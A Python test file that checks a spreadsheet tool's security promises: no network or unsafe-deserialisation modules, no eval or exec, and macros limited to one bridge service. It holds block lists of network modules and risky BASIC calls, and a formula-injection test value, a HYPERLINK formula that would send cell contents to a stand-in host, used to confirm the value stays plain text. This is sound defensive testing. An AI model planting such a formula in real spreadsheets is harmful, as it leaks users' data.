"""What docs/sicurezza.md promises of the whole: no network, no programs, nothing written elsewhere; and its own tests."""

import ast
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import Workbook

from tests.support import HEADER, row

ROOT = Path(__file__).parents[1]
PAGE = (ROOT / "docs" / "sicurezza.md").read_text(encoding="utf-8")
NETWORK = {
    "aiohttp", "asyncio", "ftplib", "http", "httpx", "imaplib", "poplib", "requests", "smtplib", "socket", "socketserver", "ssl",
    "telnetlib", "urllib3", "xmlrpc",
}  # fmt: skip
UNSAFE = {"dill", "marshal", "pickle", "shelve", "yaml"}
"""What reads programs out of data."""


def guards_in(page: str) -> set[tuple[str, str]]:
    """The file and the name of each test that the page names."""
    return set(re.findall(r"`(tests/[\w/]+\.py)::(test_\w+)`", page))


def test_each_threat_names_the_test_that_guards_it() -> None:
    rows = [line for line in PAGE.splitlines() if re.match(r"\| [A-Z]\d+ \|", line)]
    assert len(rows) > 30
    assert [row.split("|")[1] for row in rows if not guards_in(row)] == []
    numbers = [row.split("|")[1] for row in rows]
    assert len(set(numbers)) == len(numbers)


def test_each_test_that_is_named_exists() -> None:
    missing = []
    for file, name in guards_in(PAGE):
        path = ROOT / file
        found = path.exists() and any(
            isinstance(one, ast.FunctionDef) and one.name == name
            for one in ast.walk(ast.parse(path.read_text("utf-8")))
        )
        if not found:
            missing.append(f"{file}::{name}")
    assert missing == []


def test_the_page_is_linked_from_where_people_look() -> None:
    for page in ("docs/installazione.md", "docs/contribuire.md", "docs/distribuire.md", "SECURITY.md"):
        assert "sicurezza.md" in (ROOT / page).read_text(encoding="utf-8"), page


def known_to(path: Path) -> Iterator[str]:
    """The modules that a file imports, and the functions that it calls by their bare names."""
    for one in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        match one:
            case ast.Import(names=names):
                yield from (name for alias in names for name in (alias.name, alias.name.partition(".")[0]))
            case ast.ImportFrom(module=str(module), names=names, level=0):
                yield from (module.partition(".")[0], *(f"{module}.{alias.name}" for alias in names), module)
            case ast.Call(func=ast.Name(id=name)):
                yield f"{name}()"


def test_no_module_knows_the_network_or_runs_what_it_reads() -> None:
    called = ("eval", "exec", "compile", "__import__")
    refused = NETWORK | UNSAFE | {"urllib.request"} | {f"{name}()" for name in called}
    # Only what has one of the words somewhere is read as a program: there are many files.
    words = [*NETWORK, *UNSAFE, "urllib", *(f"{name}(" for name in called)]
    texts = {
        path: path.read_text(encoding="utf-8").replace(".compile(", "") for path in (ROOT / "pdo_xl").rglob("*.py")
    }
    suspects = [path for path, text in texts.items() if any(word in text for word in words)]
    assert len(texts) > 500
    assert {str(path): names for path in suspects if (names := refused.intersection(known_to(path)))} == {}


FORMULA = '=HYPERLINK("http://prova.example/"&A1,"premere qui")'


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list]]:
    """All that the commands make of a plan whose every text looks like a formula, and what they reached for."""
    folder = tmp_path_factory.mktemp("ufficio")
    office, plan = folder / "p.xlsx", str(folder / "Piano.xlsm")
    book = Workbook()
    sheet = book.active
    rows = [
        ["Piano degli obiettivi 2024"],
        HEADER,
        *(row(*[FORMULA] * 4, weight=50.0, manager=FORMULA) for _ in range(3)),
    ]
    for line, cells in enumerate(rows, start=1):
        for column, value in enumerate(cells, start=1):
            cell = sheet.cell(line, column, value)
            if value == FORMULA:
                cell.data_type = "s"
    book.save(office)
    out = {
        name: str(folder / name)
        for name in ("b.xlsx", "n.xlsm", "o.xlsm", "r.html", "r.docx", "c.ics", "v.xlsx", "S", "D", "P")
    }
    commands = [
        ["verifica", str(office)], ["attiva", str(office), "--esito", plan, "--si"], ["calcola", plan, "--al", "30/06/2024"],
        ["fotografa", plan, "--al", "30/06/2024"], ["riepilogo", plan], ["spiega", plan, "A3"],
        ["scadenze", plan, "--ics", out["c.ics"]], ["relazione", plan, "--esito", out["r.html"]],
        ["relazione", plan, "--esito", out["r.docx"]], ["schede", plan, "--esito", out["S"]], ["dati-aperti", plan, "--esito", out["D"]],
        ["valutazione", plan, "--esito", out["v.xlsx"]], ["nuovo-anno", plan, "--anno", "2025", "--esito", out["n.xlsm"]],
        ["distribuisci", plan, "--esito", out["P"]], ["raccogli", plan, out["P"]], ["esempio", plan, "--esito", out["o.xlsm"]],
        ["aggiorna", plan], ["disattiva", plan, "--esito", out["b.xlsx"]],
    ]  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "tests.watching", str(folder)], input=json.dumps(commands), capture_output=True, text=True,
        check=False, cwd=ROOT, env={**os.environ, "TMPDIR": str(folder)},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    failed = [(command, *code) for command, code in zip(commands, said["codes"], strict=True) if code[0] not in (0, 1)]
    assert failed == []
    return folder, said


@pytest.mark.slow
def test_no_command_reaches_for_a_network_a_program_or_another_folder(watched: tuple[Path, dict[str, list]]) -> None:
    _, said = watched
    assert said["reached"] == []
    assert said["written"] == []


@pytest.mark.slow
def test_a_text_that_looks_like_a_formula_stays_a_text(watched: tuple[Path, dict[str, list]]) -> None:
    """In all that is made of it only the program's own formulas are there."""
    made = [path for path in watched[0].rglob("*.xls*") if path.name != "p.xlsx"]
    assert len(made) > 5
    for path in made:
        with ZipFile(path) as package:
            markup = b"".join(
                package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")
            )
        # No formula of ours asks for the web, and no cell's text may be one.
        assert re.findall(rb"<f\b[^>]*>[^<]*(?:HYPERLINK|prova\.example)", markup) == [], path.name
        assert b"prova.example" not in b"".join(re.findall(rb"<hyperlink [^>]*>", markup)), path.name


_BASIC = ROOT / "pdo_xl" / "hosts" / "libreoffice" / "ponte"
_REACHES = re.compile(
    r"\b(Shell|CreateObject|CreateUnoService|CreateUnoDialog|CreateUnoListener|GetProcessServiceManager|Declare|Environ|Kill|FileCopy|"
    r"MkDir|RmDir|Open|Name|DDE\w+|Globalscope|StarDesktop|BasicLibraries|DialogLibraries|FreeFile|SetAttr)\b\s*\(?\s*(\"[^\"]*\")?",
    re.IGNORECASE,
)


@pytest.mark.parametrize("name", ["Comandi.bas", "Funzioni.bas"])
def test_in_calc_the_workbooks_basic_calls_the_bridge_and_nothing_else(name: str) -> None:
    lines = [line.partition("'")[0] for line in (_BASIC / name).read_text(encoding="utf-8").splitlines()]
    assert set(_REACHES.findall("\n".join(lines))) == {("CreateUnoService", '"it.pdo_xl.Ponte"')}
